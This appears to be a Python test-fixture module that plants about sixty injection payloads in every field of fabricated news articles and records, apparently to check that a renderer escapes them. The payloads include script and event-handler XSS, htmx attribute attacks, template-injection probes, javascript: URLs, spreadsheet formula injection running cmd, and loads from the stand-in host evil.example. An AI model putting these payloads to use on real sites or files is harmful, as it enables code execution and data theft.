"""Sixty hostile payloads, and articles that have them in every field that a page may show.

A payload that is executed calls ``hacked`` or multiplies :data:`FACTORS`; no text of an article holds the product, so
that what was evaluated can be told from what was shown.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date

from onrecord.records import (
    Act,
    Article,
    Channel,
    ChannelKind,
    Kind,
    Polarity,
    Problem,
    Reading,
    Span,
    Speaker,
    SpeakerType,
    Stance,
    Statement,
)

__all__ = ["BIDI", "FACTORS", "PAYLOADS", "PRODUCT", "hostile_problems", "hostile_readings", "hostile_story"]

FACTORS, PRODUCT = "1234567*7654321", "9449772114007"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_RUN = "hacked(1)"

PAYLOADS: tuple[str, ...] = (
    # Scripts, alone and out of other elements.
    f"<script>{_RUN}</script>",
    f"</title></style></textarea><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"</mark></p></main><script type=module>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f'{{"a":"</script><script>{_RUN}</script>"}}',
    # Handlers, in elements of their own and in attributes.
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"` onfocus={_RUN} autofocus `",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    '<iframe src="https://evil.example/"></iframe>',
    f"<object data=javascript:{_RUN}></object><embed src=javascript:{_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    # SVG, MathML, styles, and what loads something.
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<math><mi xlink:href='data:text/html,<script>{_RUN}</script>'>x</mi></math>",
    "<style>*{background:url(https://evil.example/s)}</style>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    '<p style="background:url(https://evil.example/p);position:fixed;inset:0">x</p>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img src=https://evil.example/i.png><audio src=https://evil.example/a autoplay>",
    f"<form action=https://evil.example/><button formaction=javascript:{_RUN}>x</button></form>",
    # htmx, which takes orders from attributes.
    '<b hx-get="https://evil.example/" hx-trigger="load">x</b>',
    f'<b hx-on:load="{_RUN}" hx-on="load: {_RUN}" data-hx-on-load="{_RUN}">x</b>',
    f"<b hx-get=/ hx-trigger='load[{_RUN}]' hx-vals='js:{{a:{_RUN}}}'>x</b>",
    # Templates, of this side and of others.
    f"{{{{ {FACTORS} }}}}",
    f"{{% print({FACTORS}) %}}{{# {_RUN} #}}",
    f"${{{FACTORS}}} #{{{FACTORS}}} *{{{FACTORS}}}",
    f"<%= {FACTORS} %> <?= {FACTORS} ?>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"%({FACTORS})s %s %n {{0.__class__}} {{page}}",
    # Addresses.
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//https://news.example/",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'https://news.example/" onclick="{_RUN}',
    # Spreadsheets.
    '=HYPERLINK("https://evil.example/","x")',
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    "\t=1+1",
    # Characters.
    f"\u202eright\u202c \u2067isolated\u2069 \u202alte\u202c \u2066\u2068{BIDI}",
    "null\x00 escape\x1b[2J bell\x07 delete\x7f next\x85 line\u2028 paragraph\u2029 end",
    "lone \ud800 and \udfff, \ufffe \uffff \U0001ffff, \u200b\ufeff",
)


@dataclass(frozen=True, slots=True)
class _Sentence:
    words: str
    speaker: Speaker
    direct: bool = True


def _text(title: str, sentences: tuple[_Sentence, ...]) -> tuple[str, list[tuple[Span, Span, Span]]]:
    text, places = f"{title}\n\n", []
    for each in sentences:
        start = len(text)
        text += f"“{each.words}”" if each.direct else each.words
        end = len(text)
        text += f" said {each.speaker.name}.\n\n"
        cue = Span(end + 1, end + 5)
        places.append((Span(start, end), cue, Span(end + 6, max(end + 7, len(text) - 3))))
    return text, places


def _reading(
    title: str, sentences: tuple[_Sentence, ...], payload: str, *, outlet: str, url: str | None, day: int
) -> Reading:
    text, places = _text(title, sentences)
    listener = Speaker(f"reporters {payload}", SpeakerType.GROUP)
    statements = tuple(
        Statement(
            (source,),
            (cue,),
            (content,),
            Kind.DIRECT if each.direct else Kind.INDIRECT,
            0.4 + 0.5 * each.direct,
            speaker=each.speaker,
            act=Act.ACCUSE,
            act_score=0.9,
            polarity=Polarity.SAID,
            stance=Stance.CHARGED,
            addressee=listener,
            channel=Channel(ChannelKind.INTERVIEW, f"The {payload} Hour", cue),
        )
        for each, (content, cue, source) in zip(sentences, places, strict=True)
    )
    article = Article(
        text,
        title=title,
        outlet=outlet,
        published=date(2031, 1 + day // 28, 1 + day % 28),
        url=url,
        authors=(payload, "Ana Brill"),
        language=payload[:20] or None,
        origin=payload,
    )
    problem = Problem("intake", payload, payload, payload)
    return Reading(article, statements, (problem,), (("attribution", "invented"),))


def hostile_readings() -> list[Reading]:
    """An article a payload, which stands in each of its fields; their words have little else in common."""
    readings = []
    for number, payload in enumerate(PAYLOADS):
        own = " ".join(f"word{number}x{place}" for place in range(40))
        named = Speaker(f"{payload} Solane{number}", SpeakerType.PERSON, role=f"minister {payload}")
        unknown = Speaker("unknown", SpeakerType.UNKNOWN, reason=payload)
        sentences = (
            _Sentence(f"{payload} We heard {own}", named),
            _Sentence(f"that {payload} was told, {own}", Speaker(payload or "x", SpeakerType.ORGANIZATION), False),
            _Sentence(f"Nobody knows {payload} who says this", unknown),
        )
        readings.append(_reading(payload, sentences, payload, outlet=payload, url=payload, day=number))
    return readings


def hostile_story(at_once: int = 20) -> list[Reading]:
    """Articles of three outlets on one happening, who quote the same payloads of one speaker, some of them cut."""
    speaker = Speaker(f"Ilse Vorne {PAYLOADS[0]}", SpeakerType.PERSON, role=PAYLOADS[10])
    readings = []
    for number, outlet in enumerate((f"Norcall {PAYLOADS[11]}", f"Courier {PAYLOADS[0]}", f"={PAYLOADS[12]}")):
        sentences = tuple(
            _Sentence(
                f"We will build the sea wall of Velm before the storms come, {place}, {payload}"
                f"{' and we will not wait' if (place + number) % 3 else ''}",
                speaker,
            )
            for place, payload in enumerate(PAYLOADS[number :: len(PAYLOADS) // at_once])
        )
        title = f"Vorne warns of {PAYLOADS[number]} at the sea wall of Velm"
        readings.append(_reading(title, sentences, PAYLOADS[number], outlet=outlet, url=None, day=100 + number))
    return readings


def hostile_problems() -> list[Problem]:
    """Problems of inputs that are nothing but payloads."""
    return [Problem("intake", "malformed", payload, payload) for payload in PAYLOADS]
